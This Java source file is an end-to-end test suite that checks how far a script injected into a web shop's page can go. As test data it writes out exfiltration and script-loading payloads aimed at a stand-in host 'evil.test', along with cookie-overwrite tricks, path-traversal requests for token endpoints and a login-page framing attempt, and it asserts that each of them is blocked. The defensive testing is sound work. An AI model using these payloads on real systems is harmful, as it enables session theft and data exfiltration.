package dev.mintmark.e2e.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.net.http.HttpRequest.BodyPublishers;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/// A script that got into the application's own page: what it can do there, and what it cannot. It
/// acts as the person for as long as the page is open, and takes nothing away that works elsewhere.
@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class InjectedScriptTest {
    private static final String SEND =
            """
            async ([path, method, headers, body]) => {
                const answer = await fetch(path, { method, headers, body: body || undefined });
                return answer.status + "\\n" + [...answer.headers].join("\\n") + "\\n" + await answer.text();
            }
            """;

    @TempDir private static Path folder;
    private static Site site;
    private static int people;
    private BrowserContext browser;
    private Shop shop;

    @BeforeAll
    static void start() throws Exception {
        site = Site.start(folder);
    }

    @AfterAll
    static void stop() {
        site.close();
    }

    @BeforeEach
    void open() {
        var user = "ann" + ++people;
        site.addUser(user);
        browser = Chromium.fresh();
        shop = Shop.signedIn(browser, site, user);
        shop.order("a teapot");
    }

    @AfterEach
    void close() {
        browser.close();
    }

    @Nested
    class It_can {
        @Test
        void read_what_the_page_reads() {
            assertThat(send("/orders", "GET", Map.of())).startsWith("200").contains("a teapot");
        }

        @Test
        void order_with_the_pages_own_proof() {
            assertThat(send("/orders", "POST", Map.of("X-CSRF-Token", token()))).startsWith("201");
        }

        @Test
        void read_the_account_page_and_sign_the_person_out() {
            assertThat(send("/account", "GET", Map.of())).startsWith("200");
            assertThat(send("/session", "DELETE", Map.of("X-CSRF-Token", token())))
                    .startsWith("204");
        }
    }

    @Nested
    class It_cannot {
        @Test // V3.3.4
        void read_the_cookie() {
            assertThat(run("document.cookie")).isEqualTo("");
            assertThat(run("cookieStore.getAll().then((all) => all.length)")).isEqualTo(0);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "document.cookie = '__Host-Http-mintmark=x; Path=/; Secure'",
                    "document.cookie = '__host-http-mintmark=x; Path=/; Secure'",
                    "document.cookie = '__Host-Http-mintmark=; Path=/; Secure; Max-Age=0'",
                    "cookieStore.set('__Host-Http-mintmark', 'x').catch(() => {})",
                    "cookieStore.delete('__Host-Http-mintmark').catch(() => {})",
                })
        void replace_the_cookie_or_take_it_away(String script) {
            var before = sessionCookie();

            run(script);

            assertThat(sessionCookie()).isEqualTo(before);
            assertThat(browser.cookies()).noneMatch(cookie -> cookie.value.equals("x"));
        }

        /// Every address that has to do with tokens, in every way that may be of use.
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "GET /session",
                    "POST /session/refresh",
                    "GET /account",
                    "GET /orders",
                    "GET /forward-auth",
                    "GET /forward-auth?pass=token",
                    "POST /forward-auth",
                    "GET /_mintmark",
                    "POST /oauth2/token",
                    "POST /v1/login",
                    "GET /session/../forward-auth",
                    "GET /session/%2e%2e/forward-auth",
                    "GET /assets/..%2fforward-auth",
                    "GET /session/forward-auth",
                    "GET /orders/../forward-auth",
                })
        void get_a_token_from_anywhere(String request) {
            var parts = request.split(" ", 2);
            var answer =
                    send(
                            parts[1],
                            parts[0],
                            Map.of(
                                    "X-CSRF-Token", token(),
                                    "X-Original-URI", "/orders",
                                    "X-Original-Method", "GET"));

            assertThat(answer.toLowerCase(Locale.ROOT))
                    .doesNotContain("bearer ey", "eyj", "mm_", "access_token");
        }

        @Test
        void use_elsewhere_what_it_can_read() {
            var token = token();
            shop.page().close();

            var resource = site.authority().bearer(token).get("/session");
            assertThat(resource.json()).containsEntry("authenticated", false);
            assertThat(site.authority().introspect(token).body()).doesNotContain("true");
            assertThat(site.authority().refresh(token).error()).isEqualTo("invalid_grant");
            var renewed =
                    site.authority()
                            .send(
                                    site.authority()
                                            .request("/session/refresh")
                                            .header("X-CSRF-Token", token)
                                            .header("Content-Type", "application/json")
                                            .POST(BodyPublishers.ofString("{}")));
            assertThat(renewed.status()).isEqualTo(401);
        }

        @Test // V7.5.1
        void change_the_password_without_knowing_it() {
            var token = token();

            var answer =
                    (String)
                            shop.page()
                                    .evaluate(
                                            SEND,
                                            List.of(
                                                    "/account/password",
                                                    "POST",
                                                    Map.of(
                                                            "Content-Type",
                                                            "application/x-www-form-urlencoded"),
                                                    "password=guess&new_password=known+to+me&csrf_token="
                                                            + token));

            assertThat(answer).startsWith("403").contains("The current password is wrong.");
        }

        @ParameterizedTest // V3.4.3, V3.4.6
        @ValueSource(
                strings = {
                    "fetch('EVIL').then(() => true, () => false)",
                    "navigator.sendBeacon('EVIL')",
                    "new Promise((done) => Object.assign(new Image(), { src: 'EVIL',"
                            + " onload: () => done(true), onerror: () => done(false) }))",
                    "import('EVIL').then(() => true, () => false)",
                    "new Promise((done) => document.head.append(Object.assign("
                            + "document.createElement('script'), { src: 'EVIL',"
                            + " onload: () => done(true), onerror: () => done(false) })))",
                })
        void bring_more_in_or_take_it_out_past_the_content_policy(String script) {
            var reached = new ArrayList<String>();
            browser.onResponse(answer -> reached.add(answer.url()));

            run(script.replace("EVIL", site.elsewhere("evil.test", "/more.js")));

            assertThat(reached).noneMatch(url -> url.contains("evil.test"));
        }

        @Test // V3.4.6
        void show_the_sign_in_page_in_a_frame_and_watch_the_password() {
            run(
                    "document.body.append(Object.assign(document.createElement('iframe'),"
                            + " { id: 'trap', src: '/login' }))");

            shop.page().waitForCondition(() -> shop.page().frames().size() > 1);
            var frame = shop.page().frames().getLast();
            shop.page().waitForCondition(() -> frame.url().startsWith("chrome-error:"));
            assertThat(run("document.getElementById('trap').contentDocument === null"))
                    .isEqualTo(true);
        }
    }

    private Object run(String script) {
        return shop.page().evaluate(script);
    }

    private String send(String path, String method, Map<String, String> headers) {
        return (String) shop.page().evaluate(SEND, List.of(path, method, headers, ""));
    }

    /// The token that the page holds.
    private String token() {
        return (String)
                run(
                        "fetch('/session').then((answer) => answer.json())"
                                + ".then((body) => body.csrf_token)");
    }

    private String sessionCookie() {
        return browser.cookies().stream()
                .filter(cookie -> cookie.name.equals("__Host-Http-mintmark"))
                .map(cookie -> cookie.value)
                .findFirst()
                .orElseThrow();
    }
}
